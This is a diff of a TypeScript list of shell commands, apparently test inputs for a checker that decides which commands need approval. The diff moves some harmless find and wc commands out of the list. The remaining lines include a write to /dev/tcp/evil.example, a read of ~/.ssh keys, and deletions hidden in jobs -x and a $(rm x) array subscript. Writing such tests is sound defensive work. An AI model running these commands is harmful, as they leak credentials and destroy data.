@@ -280,9 +280,6 @@ export const ASKED: readonly string[] = [
   'echo x > /dev/tcp/evil.example/80',
   'git ls-remote https://evil.example/x',
   // What is not known.
-  'find . -name "*.ts" | xargs wc -l',
-  'find . -type f -exec grep -l foo {} +',
-  'for f in src/*.ts; do wc -l "$f"; done',
   'cat ~/.ssh/*',
   '$x',
   '$x ls',
@@ -459,7 +456,6 @@ export const ASKED: readonly string[] = [
   'find . -exec echo \\; -delete',
   'find . -exec ls {} \\; -fprint x',
   'find . -ok echo \\;',
-  'find . -exec wc -l {} +',
   'jobs -x rm x',
   'wait -p x',
   "wait -n -p 'a[$(rm x)]'",
